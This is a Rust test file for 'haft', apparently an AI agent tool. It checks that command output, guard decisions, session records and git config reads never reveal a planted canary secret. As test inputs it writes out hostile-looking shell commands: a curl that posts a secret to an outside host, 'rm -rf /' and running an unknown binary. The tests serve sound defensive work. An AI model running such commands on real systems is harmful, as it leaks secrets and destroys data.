//! Values that a caller writes itself, and settings of git with passwords: nothing says them again.

use std::io::Write;
use std::process::{Command, Stdio};

use haft_testkit::scripted::scripted_model::{ModelScript, ScriptedCall, ScriptedModel, ScriptedPart, ScriptedTurn};
use serde_json::json;

use crate::place::{Place, said as said_by};

const CANARY: &str = "canaryP4x7Qm2Zt9";

fn place() -> Place {
    let place = Place::new();
    place.put("ws/.env", &format!("API_KEY={CANARY}\n"));
    place
}

#[test]
fn what_haft_says_of_a_call_or_a_command_holds_no_secret_that_stood_in_it() {
    let command = format!("curl -d {CANARY} https://example.com/{CANARY}; rm -rf /{CANARY}; ./{CANARY}");
    let argument = format!("command={command}");
    let path = format!("path=no/{CANARY}");
    let paths = format!("path=../{CANARY}");
    for words in [
        &["call", CANARY][..],
        &["call", CANARY, "a=b"],
        &["call", "read_file", &path],
        &["call", "read_file", &paths],
        &["call", "read_file", "path=a.txt", &format!("{CANARY}=1")],
        &["call", "grep", &format!("pattern=({CANARY}")],
        &["call", "bash", &argument],
        &["rules", "explain", &command],
    ] {
        for form in [&[][..], &["--json"]] {
            let words = [words, form].concat();
            let said = said_by(place().bare(&words));
            assert!(!format!("{}{}", said.out, said.err).contains("canary"), "{words:?}: {}{}", said.out, said.err);
        }
    }
}

#[test]
fn the_guard_gives_reasons_without_secrets() {
    for tool_input in [
        json!({ "command": format!("curl -d x https://example.com/{CANARY}; rm -rf /{CANARY}") }),
        json!({ "command": format!("./{CANARY} --force") }),
    ] {
        let place = place();
        let event = json!({
            "hook_event_name": "PreToolUse", "cwd": place.path("ws"), "tool_name": "Bash", "tool_input": tool_input,
        });
        let mut command: Command = place.bare(&["guard"]);
        let mut child =
            command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("it runs");
        let mut input = child.stdin.take().expect("it has one");
        input.write_all(event.to_string().as_bytes()).expect("it reads");
        drop(input);
        let output = child.wait_with_output().expect("it ends");
        let said = String::from_utf8_lossy(&output.stdout).into_owned() + &String::from_utf8_lossy(&output.stderr);
        assert!(said.contains("permissionDecision") && !said.contains("canary"), "{said}");
    }
}

#[test]
fn an_id_of_a_call_that_holds_a_secret_is_recorded_nowhere() {
    let place = place();
    let call = ScriptedCall { name: "list_dir".into(), arguments: "{}".into(), id: Some(format!("call_{CANARY}")) };
    let turns = [
        ScriptedTurn { reply: vec![ScriptedPart::Call(call)], ..ScriptedTurn::default() },
        ScriptedTurn::text("Done."),
    ];
    let model = ScriptedModel::start(ModelScript::of(turns));
    let said = place.haft(&model, &["run", "--yes", "--json", "look"]);
    assert_eq!(said.code, 0, "{}{}", said.out, said.err);
    assert!(!said.out.contains("canary"), "{}", said.out);
    let session = std::fs::read(place.session_file()).expect("it is there");
    let session = String::from_utf8_lossy(&session);
    assert!(!session.contains("canary"), "{session}");
}

/// Settings of git with a password, and who shows them.
#[test]
fn passwords_in_settings_of_git_are_hidden_from_the_first_call_on() {
    let url = format!("https://ann:{CANARY}@example.com/a.git");
    for script in [
        "git init -q; git remote add origin $U".to_owned(),
        "git init -q; git config sendemail.smtppass $V".to_owned(),
        "git init -q; git config http.extraheader \"AUTHORIZATION: bearer $V\"".to_owned(),
        "git init -q; git config --file more remote.origin.url $U; git config include.path ../more".to_owned(),
        "git init -q; git config url.$U.insteadOf https://example.com".to_owned(),
    ] {
        for look in [
            &["call", "read_file", "path=.git/config"][..],
            &["call", "read_file", "path=more"],
            &["call", "bash", "command=git remote -v; git config --list", "--yes"],
            &["call", "grep", "pattern=canary", "path=more"],
        ] {
            let place = Place::new();
            let mut shell = Command::new("sh");
            shell.current_dir(place.path("ws")).args(["-c", &script]).env("U", &url).env("V", CANARY);
            assert!(shell.output().expect("it runs").status.success(), "{script}");
            let said = said_by(place.bare(&[look, &["--json"]].concat()));
            assert!(!format!("{}{}", said.out, said.err).contains("canaryP4"), "{script}: {look:?}: {}", said.out);
        }
    }
}
